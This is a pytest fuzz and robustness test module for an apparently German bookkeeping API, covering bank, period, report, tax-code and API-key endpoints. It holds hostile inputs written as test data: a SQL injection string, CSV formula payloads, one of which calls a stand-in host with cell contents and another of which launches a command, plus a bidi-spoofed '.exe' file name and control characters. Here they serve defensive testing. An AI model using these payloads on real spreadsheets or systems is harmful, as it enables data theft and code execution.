"""Semantically odd input to the bank, periods/reports and settings/admin endpoints: always a 4xx with a
stable code, never a 5xx or a traceback, and a refused request changes nothing (docs/api-contract.md "Errors").

Valid bodies (as in test_bank, test_closing and test_foundation) are mutated by the seeded mutator of
test_journal_malformed (fields dropped, odd values, extreme numbers and strings, nested lists); GET
endpoints get odd but well-typed query values (months 0000-01 and 9999-12, reversed or absurd date
ranges, limit/offset extremes); statement files get byte- and line-level mutations.
FUZZ_SEED=<any> and FUZZ_CASES=<n> in the environment run other or more cases (exploration)."""

from __future__ import annotations

import calendar
import datetime as dt
import json
import os
import random
import time
import urllib.parse
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from tests.conftest import samples_dir
from tests.integration.documents.test_documents import multipart
from tests.integration.journal.test_journal_malformed import ODD_VALUES, _assert_client_error, _mutate
from tests.integration.persons import person

IBAN = "DE89370400440532013000"
SEED = os.environ.get("FUZZ_SEED", "")


def _cases(default: int) -> int:
    return int(os.environ.get("FUZZ_CASES", str(default)))


def _assert_handled(response: Any, what: str) -> None:
    assert response.status < 500, (what, response.status, response.body[:500])
    assert b"Traceback" not in response.body, what
    if response.status >= 400:
        _assert_client_error(response, what)


def _bank_account(client: Any, **fields: Any) -> dict[str, Any]:
    resp = client.post("/v1/bank-accounts", {"name": "Hausbank", "iban": IBAN, **fields})
    assert resp.status == 201, resp.body
    return resp.json()  # type: ignore[no-any-return]


def _state(client: Any, path: str) -> Any:
    """What a refused write to ``path`` must not change (one read: the committed run stays fast)."""
    if "/bank-" in path:
        return sorted((a["id"], a["name"], a["iban"], a["tx_count"]) for a in client.get("/v1/bank-accounts").json())
    if "/tax-codes" in path:
        return client.get("/v1/tax-codes?include_inactive=true").body
    return client.get("/v1/api-keys").body


# ------------------------------------------------------------------------------------- mutated bodies
VALID_ROW = {"booking_date": "2026-01-15", "value_date": "2026-01-16", "amount": "-119.00", "currency": "EUR",
             "counterparty_name": "Müller GmbH", "counterparty_iban": "DE02 1203 0000 0000 2020 51",
             "counterparty_bic": "BYLADEM1001", "purpose": "RE-1 Müller", "end_to_end_id": "E2E-1",
             "mandate_id": "M-1", "creditor_id": "DE98ZZZ09999999999", "bank_reference": "REF-1"}

WRITES: list[tuple[str, str, dict[str, Any]]] = [
    ("POST", "/v1/bank-accounts", {"name": "Zweitbank", "iban": "DE02120300000000202051", "bic": "BYLADEM1001",
                                   "currency": "EUR", "ledger_account": "1210"}),
    ("POST", "/v1/bank-accounts", {"name": "Kasse Bank", "account_number": "12345678", "currency": "EUR"}),
    ("PUT", "/v1/bank-accounts/{account_id}", {"name": "Geschäftskonto"}),
    ("POST", "/v1/bank-transactions", {"bank_account_id": "{account_id}", "transactions": [VALID_ROW]}),
    ("POST", "/v1/tax-codes", {"code": "USt16", "label": "USt 16 % (2020)", "description": "alt", "rate": 16,
                               "vat_account": "1770", "direction": "output"}),
    ("POST", "/v1/tax-codes", {"code": "RC7", "label": "RC 7", "rate": "7.00", "vat_account": "1577",
                               "self_assess_account": "1787"}),
    ("PATCH", "/v1/tax-codes/{custom_code}", {"label": "Umsatzsteuer 5 %", "description": "neu", "rate": 5,
                                              "vat_account": "1770", "is_active": True}),
    ("PATCH", "/v1/tax-codes/USt19", {"label": "USt 19"}),
    ("POST", "/v1/api-keys", {"label": "Buchhaltung", "scopes": ["journal:read", "bank:write"]}),
]


def _fill(value: Any, names: dict[str, str]) -> Any:
    """A body with the ``{name}`` placeholders of its texts and keys filled in (ids the Given step created)."""
    if isinstance(value, str):
        return value.format(**names) if "{" in value else value
    if isinstance(value, list):
        return [_fill(v, names) for v in value]
    if isinstance(value, dict):
        return {_fill(k, names): _fill(v, names) for k, v in value.items()}
    return value


def assert_mutations_handled(client: Any, method: str, url: str, valid: Any, state: Callable[[], Any],
                             seed: str) -> None:
    """Given a valid body that is accepted, when it is mutated (seeded, up to three mutations at once), then
    each answer is a success (a mutation can stay valid) or a 4xx with a code, and a refusal changed nothing
    that ``state`` reads."""
    first = client.request(method, url, json=valid)
    assert first.status in (200, 201), (url, first.body[:500])
    rng = random.Random(f"{seed} {json.dumps(valid)}{SEED}")
    before = state()
    for case in range(_cases(15)):
        body = _mutate(rng, valid)
        for _ in range(rng.randrange(3)):
            body = _mutate(rng, body)
        response = client.request(method, url, json=body)
        what = f"case {case}: {method} {url} {json.dumps(body, default=str)[:300]}"
        _assert_handled(response, what)
        if response.status >= 400:
            assert state() == before, what
        else:
            before = state()


@pytest.mark.parametrize("method,path,valid", WRITES, ids=[f"{m} {p} {i}" for i, (m, p, _) in enumerate(WRITES)])
def test_given_mutated_bodies_when_writing_then_4xx_with_a_code_and_nothing_changed(
        client: Any, method: str, path: str, valid: dict[str, Any]) -> None:
    acc = _bank_account(client)
    assert client.post("/v1/tax-codes", {"code": "USt5", "label": "USt 5 %", "rate": 5,
                                         "vat_account": "1770"}).status == 201
    names = {"account_id": acc["id"], "custom_code": "USt5"}
    url, valid = path.format(**names), _fill(valid, names)
    assert_mutations_handled(client, method, url, valid, lambda: _state(client, path), f"{method} {path}")


# ------------------------------------------------------------------------------------- periods (path values)
PERIODS = ["2026-01", "0000-01", "0001-01", "9999-12", "2026-00", "2026-13", "2026-1", "202601", "９９９９-12",
           "2026-01%00", "x" * 300]


def test_given_odd_periods_when_locking_reopening_or_asking_then_never_a_server_error(
        client: Any, make_client: Any) -> None:
    approver, _actor = person(client, make_client, ["periods:approve", "periods:read"], name="Steuerberaterin")
    for period in PERIODS:
        quoted = urllib.parse.quote(period, safe="-%")
        for action in ("soft-lock", "reopen", "lock/status", "lock"):
            method = "GET" if action == "lock/status" else "POST"
            _assert_handled(client.request(method, f"/v1/periods/{quoted}/{action}"), f"{action} {period}")
        request = client.get(f"/v1/periods/{quoted}/lock/status")
        request_id = request.json().get("request_id") if request.status == 200 else None
        for rid in [request_id, "00000000-0000-0000-0000-000000000000", "x"]:
            if rid is None:
                continue
            _assert_handled(approver.post(f"/v1/periods/{quoted}/lock/{rid}/approve"), f"approve {period} {rid}")
            _assert_handled(client.post(f"/v1/periods/{quoted}/lock/{rid}/cancel"), f"cancel {period} {rid}")
    listed = client.get("/v1/periods")
    _assert_handled(listed, "list periods")


# ------------------------------------------------------------------------------------- query values
DATES = ["2026-01-01", "2026-01-31", "2026-02-28", "2026-12-31", "0001-01-01", "0001-01-31", "1900-01-01",
         "9999-12-01", "9999-12-31", "2026-02-30", "2026-13-01", "0000-01-01", "2026-1-1", "20260101",
         "2026-01-01T00:00:00", "", "x", "-1", "99999-01-01"]
INTS = ["0", "1", "-1", "366", "367", "500", "501", "2147483648", "9" * 40, "1e3", "1.5", "", "x", "NaN"]
UUIDS = ["00000000-0000-0000-0000-000000000000", "{account_id}", "{ACCOUNT_ID}", "-" * 36, "x", ""]
QUERIES: list[tuple[str, dict[str, list[str]]]] = [
    ("/v1/bank-transactions", {"bank_account_id": UUIDS, "start_date": DATES, "end_date": DATES,
                               "search": ["müller", "%", "*", "\\", "x" * 100, "x" * 101, "' OR 1=1 --", "😀", ""],
                               "status": ["unreconciled", "reconciled", "dismissed", "open", ""],
                               "limit": INTS, "offset": INTS}),
    ("/v1/bank-accounts/balance-history", {"days": INTS, "bank_account_id": UUIDS}),
    ("/v1/bank-transactions/unreconciled-count", {"bank_account_id": UUIDS}),
    ("/v1/reports", {"type": ["trial_balance", "profit_and_loss", "balance_sheet", "vat_return", "x", ""],
                     "startDate": DATES, "endDate": DATES}),
    ("/v1/reports/monthly-revenue-expenses", {"startDate": DATES, "endDate": DATES}),
    ("/v1/reports/datev-export", {"startDate": DATES, "endDate": DATES}),
    ("/v1/tax-codes", {"include_inactive": ["true", "false", "1", "0", "yes", "", "x", "null"]}),
    ("/v1/periods", {"year": ["2026", "0", "9999"], "limit": INTS}),
    ("/v1/api-keys", {"limit": INTS}),
]


@pytest.mark.parametrize("path,names", QUERIES, ids=[q[0] for q in QUERIES])
def test_given_odd_query_values_when_reading_then_never_a_server_error(
        client: Any, path: str, names: dict[str, list[str]]) -> None:
    acc = _bank_account(client)
    client.post("/v1/bank-transactions", {"bank_account_id": acc["id"], "transactions": [VALID_ROW]})
    client.post("/v1/bookings", {"booking_date": "2026-01-15", "description": "Büromaterial", "lines": [
        {"account_debit": "4930", "account_credit": "1200", "amount": "119.00", "tax_code": "VSt19"}]})
    fill = {"account_id": acc["id"], "ACCOUNT_ID": acc["id"].upper()}
    rng = random.Random(f"{path}-query{SEED}")
    for case in range(_cases(25)):
        chosen = rng.sample(sorted(names), rng.randrange(1, len(names) + 1))
        params = {n: rng.choice(names[n]).format(**fill) for n in chosen}
        if rng.random() < 0.1:  # an odd value of the journal fuzzer instead
            params[rng.choice(chosen)] = str(rng.choice(ODD_VALUES))
        url = f"{path}?{urllib.parse.urlencode(params)}"
        _assert_handled(client.get(url), f"case {case}: {url}")


# ------------------------------------------------------------------------------------- statement files
def _mutate_bytes(rng: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    for _ in range(rng.randrange(1, 4)):
        action = rng.random()
        i = rng.randrange(len(lines))
        if action < 0.25:
            del lines[i]
            if not lines:
                lines = [b""]
        elif action < 0.45:
            lines.insert(i, lines[rng.randrange(len(lines))])
        elif action < 0.75 and lines[i]:
            # replace a token in the line: a number, date, amount or tag content
            cut = rng.randrange(len(lines[i]))
            odd = rng.choice([b"", b"9" * 40, b"-", b"0", b"99991231", b"20260230", b"991399", b"1,5,5", b";",
                              b"\"", b"<", b"&x;", b"\xff", b"NaN", b"1e400", b"x" * 500])
            lines[i] = lines[i][:cut] + odd + lines[i][cut + rng.randrange(0, 12):]
        else:
            lines[i] = lines[i][: rng.randrange(len(lines[i]) + 1)]
    return b"\n".join(lines)


STATEMENTS = [("camt053", "de_vrbank-rottal-inn_camt.053.001.02.xml"), ("camt053", "genkgo_camt.053.001.08.xml"),
              ("mt940", "sparkasse.sta"), ("mt940", "deutschebank.sta"), ("bankcsv", "dkb.csv"),
              ("bankcsv", "sparkasse-lzo-camt-v8.csv"), ("bankcsv", "ing.csv")]


@pytest.mark.parametrize("folder,name", STATEMENTS, ids=[f"{f}/{n}" for f, n in STATEMENTS])
def test_given_mutated_statement_files_when_imported_then_never_a_server_error(
        client: Any, folder: str, name: str) -> None:
    from ledgerlou.formats.detect import parse_statement

    from tests.integration.bank.support import _account_for

    path = samples_dir(folder, name)
    data = path.read_bytes()
    # Given the statement's bank account(s), so that mutations reach the import and not only the lookup
    labels = list(dict.fromkeys(s.account_iban or s.account_number for s in parse_statement(data).statements))
    for i, label in enumerate(label for label in labels if label):
        _account_for(client, label, i)
    rng = random.Random(f"{path.name}{SEED}")
    for case in range(_cases(10)):
        mutated = _mutate_bytes(rng, data)
        body, headers = multipart(mutated, path.name)
        response = client.request("POST", "/v1/bank-transactions/import-file", body=body, headers=headers)
        _assert_handled(response, f"case {case}: {path.name} {mutated[:200]!r}")


# ------------------------------------------------------------------------------------- date ranges
# Every route with a date range, and what bounds its answer (README "API conventions", issue 14 item 2):
# ("months", n) at most n months, else 400 RANGE_TOO_LARGE naming n; "fiscal_year" one fiscal year (DATEV);
# "page" the span is free, the answer one page (limit <= 500); "journal" the span is free, the answer the
# journal's entries in the range (the export; 303 to a download above 4 MB).
RANGE_ROUTES: list[tuple[str, str, str, Any]] = [
    ("/v1/reports?type=trial_balance", "startDate", "endDate", ("months", 120)),
    ("/v1/reports?type=profit_and_loss", "startDate", "endDate", ("months", 120)),
    ("/v1/reports?type=balance_sheet", "startDate", "endDate", ("months", 120)),
    ("/v1/reports?type=vat_return", "startDate", "endDate", ("months", 120)),
    ("/v1/reports/monthly-revenue-expenses", "startDate", "endDate", ("months", 120)),
    ("/v1/reports/datev-export", "startDate", "endDate", "fiscal_year"),
    ("/v1/journal", "startDate", "endDate", "page"),
    ("/v1/accounts/1200/entries", "startDate", "endDate", "page"),
    ("/v1/bank-transactions", "start_date", "end_date", "page"),
    ("/v1/outgoing-invoices", "start_date", "end_date", "page"),
    ("/v1/invoices", "start_date", "end_date", "page"),
    ("/v1/journal/export", "startDate", "endDate", "journal"),
]
DATE_PARAMS = {"startDate", "endDate", "start_date", "end_date"}


def test_given_the_openapi_document_then_every_route_with_a_date_range_is_in_the_range_table(client: Any) -> None:
    # Given every operation that takes a date range
    doc = client.get("/v1/openapi.json").json()
    ranged = {(path, tuple(sorted(p["name"] for p in op.get("parameters", []) if p["name"] in DATE_PARAMS)))
              for path, ops in doc["paths"].items() for op in ops.values()
              if any(p["name"] in DATE_PARAMS for p in op.get("parameters", []))}
    # Then each is fuzzed below with its bound: a new range route cannot come without one
    table = {(p.split("?")[0].replace("/1200/", "/{number}/"), tuple(sorted((s, e)))) for p, s, e, _ in RANGE_ROUTES}
    assert ranged == table


def _month_end(year: int, month: int) -> dt.date:
    return dt.date(year, month, calendar.monthrange(year, month)[1])


def _oversized(rng: random.Random, bound: Any) -> tuple[dt.date, dt.date]:
    """A range just or far past the route's bound, in whole months (so that is the only thing wrong)."""
    start = dt.date(rng.randrange(1, 9990), rng.randrange(1, 13), 1)
    last = 9999 * 12 + 11  # month index of 9999-12
    first = start.year * 12 + start.month - 1
    months = bound[1] if isinstance(bound, tuple) else 12
    span = rng.choice([months + 1, months + 2, rng.randrange(months + 1, months * 100)])
    end_index = min(first + span - 1, last)
    if end_index - first + 1 <= months:  # too close to 9999-12 for this span: start earlier
        first = last - span + 1
        start = dt.date(first // 12, first % 12 + 1, 1)
        end_index = last
    return start, _month_end(end_index // 12, end_index % 12 + 1)


@pytest.mark.parametrize("path,start_name,end_name,bound", RANGE_ROUTES, ids=[r[0] for r in RANGE_ROUTES])
def test_given_oversized_or_reversed_ranges_on_every_range_route_then_400_with_a_code_or_one_bounded_page(
        client: Any, path: str, start_name: str, end_name: str, bound: Any) -> None:
    acc = _bank_account(client)
    client.post("/v1/bank-transactions", {"bank_account_id": acc["id"], "transactions": [VALID_ROW]})
    for day in ("2026-01-15", "2026-02-15", "2026-03-15"):
        client.post("/v1/bookings", {"booking_date": day, "description": "Büromaterial", "skip_duplicate_check": True,
                                     "lines": [{"account_debit": "4930", "account_credit": "1200", "amount": "10.00"}]})
    sep = "&" if "?" in path else "?"
    rng = random.Random(f"{path}-ranges{SEED}")
    for case in range(_cases(12)):
        start, end = _oversized(rng, bound)
        if rng.random() < 0.25:  # reversed, still whole months: refused on every route, whatever its bound
            start, end = end.replace(day=1), _month_end(start.year, start.month)
        limit = rng.choice([1, 2, 50, 500])
        url = f"{path}{sep}{start_name}={start.isoformat()}&{end_name}={end.isoformat()}"
        if bound == "page":
            url += f"&limit={limit}"
        began = time.perf_counter()
        resp = client.get(url)
        elapsed = time.perf_counter() - began
        what = f"case {case}: {url}"
        _assert_handled(resp, what)
        assert elapsed < 5, (what, elapsed)  # no span makes work: the probe's 9000..9999 took 7 s
        error = resp.json()["error"] if resp.status >= 400 else None
        if start > end:
            assert resp.status == 400 and error["code"] == "INVALID_INPUT", (what, resp.body[:300])
            assert error["details"] == [{"field": start_name, "issue": f"must not be after {end_name}"}], what
        elif isinstance(bound, tuple) or bound == "fiscal_year":
            # Then a span past the bound is refused, the message naming the limit
            assert resp.status == 400 and error["code"] == "RANGE_TOO_LARGE", (what, resp.body[:300])
            limit_text = f"at most {bound[1]} months" if isinstance(bound, tuple) else "one fiscal year"
            assert limit_text in error["message"], (what, error)
        elif bound == "page":
            # Then the answer is one page however wide the span, and it counts no more than there is
            assert resp.status == 200, (what, resp.body[:300])
            body = resp.json()
            if isinstance(body, list):  # the partner and invoice lists: an array, the count in X-Total-Count
                items, total = body, int(resp.headers["x-total-count"])
            else:
                items, total = body.get("entries", body.get("transactions")), body["total"]
            assert len(items) <= limit and total <= 4, (what, body)
        else:
            # Then the export is the journal's entries in the range: never more than the whole journal
            assert resp.status == 200, (what, resp.body[:300])
            assert len(resp.body.splitlines()) <= 3, what


# ------------------------------------------------------------------------------------- CSV injection
FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r+", " -", "  @", "\t", "＝", "－", "\u2212", "'=", ""]
FORMULA_BODIES = ['HYPERLINK("http://x.example/?"&A1;"Beleg")', "cmd|' /C calc'!A0", "2+3", "SUM(A1:A9)", "1",
                  "Büromaterial Müller", "x" * 70, "A1", ""]


def test_given_seeded_formula_texts_when_booked_and_exported_to_datev_then_no_cell_runs_as_a_formula(
        client: Any) -> None:
    from ledgerlou.formats import datev

    from tests.unit.formats.test_datev_csv_injection import check_extf_cells

    # Given bookings whose description and external reference start like formulas (seeded, 20 of them)
    rng = random.Random(f"datev-formulas{SEED}")
    for i in range(_cases(20)):
        text = (rng.choice(FORMULA_STARTS) + rng.choice(FORMULA_BODIES)).strip() or "x"
        ref = (rng.choice(FORMULA_STARTS) + rng.choice(FORMULA_BODIES))[:100] or None
        resp = client.post("/v1/bookings", {"booking_date": f"2026-01-{i % 28 + 1:02d}", "description": text,
                                            "external_reference": ref, "skip_duplicate_check": True,
                                            "lines": [{"account_debit": "4930", "account_credit": "1200",
                                                       "amount": f"{rng.randrange(1, 10**6)}.{rng.randrange(100):02d}",
                                                       "tax_code": rng.choice(["VSt19", "VSt7"])}]})
        _assert_handled(resp, f"booking {i}: {text!r} {ref!r}")
    # When January is exported
    resp = client.get("/v1/reports/datev-export?startDate=2026-01-01&endDate=2026-01-31")
    assert resp.status == 200, resp.body[:300]
    # Then every line meets DATEV's column rules and no cell of the file runs as a formula
    rows = check_extf_cells(resp.body, datev.ENCODING)
    assert rows


# ------------------------------------------------------------------------------------- control and bidi characters
# Every free-text field of every request (README "API conventions", issue 14 item 7), found in the OpenAPI
# document by the text rule's pattern (models/common.py Text), gets NUL, U+202E and one more refused character
# (seeded): 400 INVALID_INPUT naming the field, nothing stored. tests/unit/test_text_fields.py makes sure no
# string field of a request model or query escapes the rule; this makes sure each route really applies it.
ALWAYS_REFUSED = ["Büro\x00material", "Rechnung\u202efdp.exe"]
MORE_REFUSED = ["\ud800", "\udfff", "\x01", "\x07x", "x\x08", "\x0b", "\x0c", "\x1b[31mrot", "x\x1f", "\x7f", "\x80",
                "\x85", "\x9f", "\u202a", "\u202b", "\u202c", "\u202d", "\u2066x\u2069", "\u2067", "\u2068"]


def _text_fields(doc: dict[str, Any], schema: dict[str, Any], path: list[Any]) -> list[list[Any]]:
    """The paths of every string of ``schema`` (an example body's shape: arrays at index 0) under the text
    rule; fails on a string that has neither the rule nor a fixed shape (enum, pattern, format)."""
    from ledgerlou.models.common import TEXT_PATTERN

    from tests.integration.test_api_robustness import _resolve

    schema = _resolve(doc, schema)
    variants = [_resolve(doc, s) for s in schema.get("anyOf", [schema]) if s.get("type") != "null"]
    # A number that may also be written as a string ("119.00", the way amounts keep their digits) is a number
    number = any(v.get("type") in ("number", "integer") for v in variants)
    out: list[list[Any]] = []
    for variant in variants:
        kind = variant.get("type")
        if kind == "string" and number:
            continue
        if kind == "object":
            for name, prop in (variant.get("properties") or {}).items():
                out += _text_fields(doc, prop, [*path, name])
        elif kind == "array" and isinstance(variant.get("items"), dict):
            out += _text_fields(doc, variant["items"], [*path, 0])
        elif kind == "string":
            if variant.get("pattern") == TEXT_PATTERN:
                out.append(path)
            else:
                assert variant.get("pattern") or variant.get("enum") or variant.get("format"), \
                    f"{_dotted(path)}: a string without the text rule or a fixed shape"
    return out


def _dotted(path: list[Any]) -> str:
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else ("." if out else "") + part
    return out


def _with(body: Any, path: list[Any], value: Any) -> Any:
    body = json.loads(json.dumps(body))
    target = body
    for part in path[:-1]:
        target = target[part]  # the example has every array and object on the way (asserted by the caller)
    target[path[-1]] = value
    return body


def _reaches(body: Any, path: list[Any]) -> bool:
    target = body
    for part in path[:-1]:
        if isinstance(part, int):
            if not isinstance(target, list) or len(target) <= part:
                return False
        elif not isinstance(target, dict) or part not in target:
            return False
        target = target[part]
    return isinstance(target, dict)


def _assert_refused_naming(response: Any, field: str, char: str, what: str) -> None:
    assert response.status == 400, (what, response.status, response.body[:300])
    error = response.json()["error"]
    assert error["code"] == "INVALID_INPUT", (what, error)
    named = [d for d in error.get("details", []) if d["field"] == field]
    assert named and f"U+{ord(char):04X}" in named[0]["issue"], (what, error)


def _first_refused(text: str) -> str:
    from ledgerlou.models.common import refused_character

    return next(c for c in text if refused_character(c))


def test_given_every_text_field_of_every_json_route_when_it_holds_a_control_or_bidi_character_then_400_naming_it(
        client: Any) -> None:
    from tests.integration.test_api_robustness import (
        _document,
        _json_body_schema,
        _operations,
        _path_values,
        _table_items,
        _url,
    )

    # Given every JSON write route of the document, its example body and every text field in it
    doc = _document(client)
    values = _path_values(client)
    rng = random.Random(f"text-fields{SEED}")
    before = _table_items()
    fields_seen = set()
    for method, path, op in _operations(doc):
        schema = _json_body_schema(doc, op)
        if schema is None:
            continue
        example = schema["examples"][0]
        url = _url(path, values)
        for field in _text_fields(doc, schema, []):
            assert _reaches(example, field), f"{method} {path}: the example has no {_dotted(field)} to set"
            fields_seen.add(f"{path} {_dotted(field)}")
            for text in [*ALWAYS_REFUSED, f"Porto {rng.choice(MORE_REFUSED)} Januar"]:
                # When the field holds the character (the rest of the body as in the example; ASCII JSON, so
                # that a lone surrogate travels as the \\ud800 escape it can only be in valid UTF-8)
                response = client.request(method, url, body=json.dumps(_with(example, field, text)))
                # Then the request is refused, naming the field and the character
                _assert_refused_naming(response, _dotted(field), _first_refused(text),
                                       f"{method} {path} {_dotted(field)}={text!r}")
    # The walk found the fields the probe found open (and every other free-text field of the document)
    assert {"/v1/bookings description", "/v1/bookings external_reference", "/v1/bookings lines[0].description",
            "/v1/api-keys label", "/v1/accounts name", "/v1/bank-accounts name",
            "/v1/tax-codes label"} <= fields_seen, fields_seen
    # And nothing was stored
    assert _table_items() == before


def test_given_custom_metadata_or_a_bank_row_with_a_control_character_then_refused_naming_it(client: Any) -> None:
    from tests.integration.test_api_robustness import _table_items

    acc = _bank_account(client)
    before = _table_items()
    # Given a booking whose free-form metadata holds NUL in a nested text
    response = client.post("/v1/bookings", {"booking_date": "2026-01-15", "description": "Porto",
                                            "custom_metadata": {"ticket": {"notes": ["ok", "a\x00b"]}},
                                            "lines": [{"account_debit": "4910", "account_credit": "1000",
                                                       "amount": "8.50"}]})
    # Then it is refused naming custom_metadata and where in it
    _assert_refused_naming(response, "custom_metadata", "\x00", "custom_metadata")
    assert "ticket.notes[1]" in response.json()["error"]["details"][0]["issue"]
    assert _table_items() == before
    # Given a JSON import whose rows each hold a refused character in another text field (rows are validated
    # one by one: a bad row is reported, never stops the good ones)
    texts = ["counterparty_name", "purpose", "end_to_end_id", "mandate_id", "creditor_id", "bank_reference"]
    rows = [{**VALID_ROW, "bank_reference": f"REF-{i}", name: f"x{char}y"}
            for i, (name, char) in enumerate((n, c) for n in texts for c in ("\x00", "\u202e"))]
    response = client.post("/v1/bank-transactions", {"bank_account_id": acc["id"], "transactions": [
        *rows, {**VALID_ROW, "bank_reference": "REF-good"}]})
    assert response.status in (200, 201), response.body[:300]
    result = response.json()
    # Then each bad row is reported naming its field and character, and only the good one is imported
    assert result["imported"] == 1, result
    assert [e["index"] for e in result["errors"]] == list(range(len(rows)))
    for error, row in zip(result["errors"], rows, strict=True):
        name = next(n for n in texts if n in row and "y" in str(row[n]) and str(row[n]).startswith("x"))
        assert error["reason"].startswith(f"{name}: must not contain U+"), error


def test_given_every_text_query_parameter_when_it_holds_a_control_or_bidi_character_then_400_naming_it(
        client: Any) -> None:
    from ledgerlou.models.common import TEXT_PATTERN

    from tests.integration.test_api_robustness import _document, _operations, _path_values, _url

    doc = _document(client)
    values = _path_values(client)
    seen = []
    for method, path, op in _operations(doc):
        for param in op.get("parameters", []):
            schemas = param.get("schema", {}).get("anyOf", [param.get("schema", {})])
            if param["in"] != "query" or not any(s.get("pattern") == TEXT_PATTERN for s in schemas):
                continue
            seen.append(f"{path}?{param['name']}")
            for text in [*ALWAYS_REFUSED, "\x1b[2J"]:
                url = f"{_url(path, values)}?{urllib.parse.urlencode({param['name']: text})}"
                _assert_refused_naming(client.request(method, url), param["name"], _first_refused(text), url)
    assert sorted(seen) == ["/v1/accounts/search?q", "/v1/bank-transactions?search", "/v1/customers?search",
                            "/v1/journal?externalReference", "/v1/journal?search", "/v1/vendors?search"]


def _form(data: bytes, filename: str, fields: dict[str, str] | None = None) -> tuple[bytes, dict[str, str]]:
    """multipart/form-data with the file part and text fields (UTF-8, as browsers send them)."""
    boundary = "ll" + "0" * 20
    out = b""
    for name, value in (fields or {}).items():
        out += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
    out += (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            f"Content-Type: text/csv\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return out, {"content-type": f"multipart/form-data; boundary={boundary}"}


def test_given_every_upload_route_when_the_file_name_or_a_form_field_holds_a_bidi_or_control_character_then_400(
        client: Any) -> None:
    from tests.integration.test_api_robustness import _document, _operations, _path_values, _table_items, _url

    doc = _document(client)
    values = _path_values(client)
    before = _table_items()
    uploads = [(m, p, op["requestBody"]["content"]["multipart/form-data"]["schema"]) for m, p, op in _operations(doc)
               if "multipart/form-data" in (op.get("requestBody") or {}).get("content", {})]
    assert len(uploads) >= 3, uploads
    statement = b"Buchungstag;Betrag\n15.01.2026;-1,00\n"
    for method, path, schema in uploads:
        url = _url(path, values)
        # Given a file named to show as something else ("Rechnung<U+202E>fdp.exe" shows as "Rechnungexe.pdf")
        for name in ["Rechnung\u202efdp.exe", "a\x00.pdf", "\u2067x.csv"]:
            body, headers = _form(statement, name)
            response = client.request(method, url, body=body, headers=headers)
            # Then it is refused naming the file part
            _assert_refused_naming(response, "file", _first_refused(name), f"{path} {name!r}")
        # And each text field of the form likewise
        for field in [f for f in schema["properties"] if f != "file"]:
            body, headers = _form(statement, "kontoauszug.csv", {field: "x\x00"})
            _assert_refused_naming(client.request(method, url, body=body, headers=headers), field, "\x00",
                                   f"{path} {field}")
    assert _table_items() == before


def test_given_texts_booked_before_the_rule_when_read_then_they_come_back_as_booked_and_the_chain_verifies(
        client: Any, tenant: Any) -> None:
    from ledgerlou.domain.caller import ALL_SCOPES, Caller
    from ledgerlou.domain.journal import booking
    from ledgerlou.models.journal import BookingLine, BookingRequest

    # Given a booking whose texts hold characters the API now refuses, booked as it was before the rule (the
    # domain takes an already validated request; model_construct stands for the old, laxer validation)
    legacy = "Alt\x00buchung \u202eRE-1"
    ctx = Caller(tenant_id=tenant.tenant_id, actor_id="migration", actor_type="api_key", actor_label="Altbestand",
                 key_prefix=None, scopes=frozenset(ALL_SCOPES), chart="skr03", base_currency="EUR")
    line = BookingLine.model_construct(account_debit="4930", account_credit="1200", amount=Decimal("10.00"),
                                       tax_code=None, description=legacy)
    request = BookingRequest.model_construct(booking_date=dt.date(2026, 1, 15), description=legacy, lines=[line],
                                             document_id=None, external_reference=legacy, custom_metadata=None,
                                             skip_duplicate_check=False, adjustment_period=None, fx=None)
    [(intent_id, _count)] = booking.post_bookings(ctx, [request], "api")
    # When it is read through the API (reads do not validate)
    audit = client.get(f"/v1/journal/{intent_id}")
    listed = client.get("/v1/journal?startDate=2026-01-01&endDate=2026-01-31")
    # Then the texts come back exactly as booked, never rewritten, and the chain still verifies
    assert audit.status == 200 and listed.status == 200, (audit.body[:300], listed.body[:300])
    assert legacy in _strings(audit.json()), audit.body[:500]
    assert {e["description"] for e in listed.json()["entries"]} == {legacy}
    assert client.get("/v1/journal/verify").json()["verified"] is True
    # And the same text sent today is refused, the stored one untouched
    refused = client.post("/v1/bookings", {"booking_date": "2026-01-16", "description": legacy, "lines": [
        {"account_debit": "4930", "account_credit": "1200", "amount": "10.00"}]})
    _assert_refused_naming(refused, "description", "\x00", "a legacy text sent again")


def _strings(value: Any) -> set[str]:
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return {s for v in value.values() for s in _strings(v)}
    if isinstance(value, list):
        return {s for v in value for s in _strings(v)}
    return set()
